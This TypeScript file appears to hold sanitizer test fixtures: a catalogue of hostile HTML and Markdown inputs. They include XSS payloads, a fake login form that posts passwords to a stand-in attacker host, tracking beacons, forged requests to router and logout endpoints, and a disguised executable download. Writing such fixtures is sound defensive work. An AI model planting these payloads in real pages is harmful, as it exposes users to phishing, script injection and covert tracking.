// Elements that load, embed, or control something: frames, plug-ins, meta, link, media.
import { EVIL, family, together } from "./input";

export const embeds = family("embed", "a foreign request, a frame, or the page going elsewhere", {
  iframes: together(
    `<iframe src="https://${EVIL}/frame"></iframe>`,
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    `<iframe sandbox="allow-scripts allow-top-navigation" src="https://${EVIL}/"></iframe>`,
  ),
  "iframe-ours":
    '<iframe src="/concepts/" name="___gatsby" style="position:fixed;inset:0"></iframe>',
  objects: together(
    `<object data="https://${EVIL}/film.swf" type="application/x-shockwave-flash"><param name="movie" value="https://${EVIL}/film.swf"></object>`,
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    `<object data="https://${EVIL}/a.pdf" type="application/pdf"></object>`,
    `<embed src="https://${EVIL}/e.svg" type="image/svg+xml" allowscriptaccess="always">`,
    `<applet code="Evil.class" archive="https://${EVIL}/e.jar"></applet>`,
    `<fencedframe src="https://${EVIL}/"></fencedframe><portal src="https://${EVIL}/"></portal><webview src="https://${EVIL}/"></webview>`,
  ),
  frames: `<frameset cols="50%,50%"><frame src="https://${EVIL}/left"><frame src="https://${EVIL}/right"></frameset>`,
  links: together(
    `<link rel="stylesheet" href="https://${EVIL}/theirs.css">`,
    `<link rel="preload" as="script" href="https://${EVIL}/p.js"><link rel="modulepreload" href="https://${EVIL}/m.js"><link rel="prefetch" href="https://${EVIL}/n"><link rel="preconnect" href="https://${EVIL}"><link rel="dns-prefetch" href="//${EVIL}"><link rel="prerender" href="https://${EVIL}/">`,
    `<link rel="icon" href="https://${EVIL}/icon.png"><link rel="manifest" href="https://${EVIL}/m.json"><link rel="canonical" href="https://${EVIL}/">`,
    `<link rel="import" href="https://${EVIL}/i.html"><link rel="alternate" type="application/rss+xml" href="https://${EVIL}/f.xml">`,
  ),
  "meta-refresh": together(
    `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
    '<meta http-equiv="refresh" content="0; url=javascript:alert(1)"><meta http-equiv=REFRESH content="1 URL=/404.html">',
  ),
  meta: together(
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; script-src *">',
    '<meta charset="utf-7"><meta name="referrer" content="unsafe-url"><meta name="viewport" content="width=9999, user-scalable=no"><meta name="robots" content="noindex"><meta http-equiv="set-cookie" content="x=1"><meta name="theme-color" content="red">',
  ),
  "meta-utf7":
    '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
  beacons: together(
    `<img src="https://${EVIL}/beacon.gif" width="1" height="1" alt="">`,
    `![](https://${EVIL}/pixel.png) ![][ref]\n\n[ref]: https://${EVIL}/ref.png`,
    `<img src="//${EVIL}/b.png"><img src="\\\\${EVIL}\\b.png"><img src="https:${EVIL}/b.png"> ![](//${EVIL}/m.png)`,
    `<img loading="lazy" data-src="https://${EVIL}/lazy.png" src="https://${EVIL}/l.png" crossorigin="use-credentials" referrerpolicy="unsafe-url">`,
    `<picture><source media="(prefers-color-scheme: dark)" srcset="https://${EVIL}/dark.png"><source srcset="https://${EVIL}/light.png" type="image/avif"><img src="https://${EVIL}/img.png"></picture>`,
    '<img src="http://127.0.0.1:9/"><img src="http://192.168.0.1/reboot"><img src="http://[::1]:9/"> ![](http://localhost:9/)',
    `[![build](https://${EVIL}/badge.svg)](https://${EVIL}/ci) [![x](https://img.shields.io/npm/v/x.svg)](https://example.com/)`,
  ),
  "beacon-ours": '<img src="/page-data/app-data.json"><img src="/logout?now"> ![](/api/delete)',
  "media-autoplay": `<video autoplay muted loop src="https://${EVIL}/v.mp4"></video><audio autoplay controls src="https://${EVIL}/a.mp3"></audio><bgsound src="https://${EVIL}/b.wav">`,
  dialog:
    '<dialog open style="position:fixed;inset:0">Your session is over.<form method="dialog"><button>OK</button></form></dialog>',
  popover:
    '<div popover="auto" id="pop">pop</div><button popovertarget="pop" popovertargetaction="show">open</button><button commandfor="pop" command="show-modal">x</button>',
  form: `<form action="https://${EVIL}/login" method="post" autocomplete="on"><input name="user"><input name="password" type="password" autofocus><button>Sign in</button></form>`,
  "form-enter": `<form action="/404.html" target="_top"><input autofocus><input type="submit" accesskey="x"></form>`,
  inputs:
    '<input type="file"><input type="color"><input type="range"><input type="date"><textarea rows="99999" cols="99999"></textarea><select size="99999"><option>x</option></select><progress value="1" max="2"></progress><meter value="1"></meter><output>x</output>',
  slots:
    '<slot name="x"></slot><template shadowroot="open"><p>shadow</p></template><template shadowrootmode="open" shadowrootdelegatesfocus><style>*{display:none}</style></template>',
  "custom-elements":
    '<gatsby-announcer></gatsby-announcer><deckgo-highlight-code></deckgo-highlight-code><button is="x-button">x</button>',
  marquee: `<marquee behavior="alternate" scrollamount="99" width="5000">moving</marquee><blink>x</blink>`,
  "target-names":
    '[x](https://example.com/) <a href="https://example.com/" target="_top" rel="opener">top</a> <a href="https://example.com/" target="evilwindow">named</a> <a href="https://example.com/" target="_blank" rel="opener">blank</a>',
  download: `<a href="https://${EVIL}/tool.exe" download="webpack.exe">install</a> <a href="/concepts/" download="x.html" type="text/html">save</a>`,
});
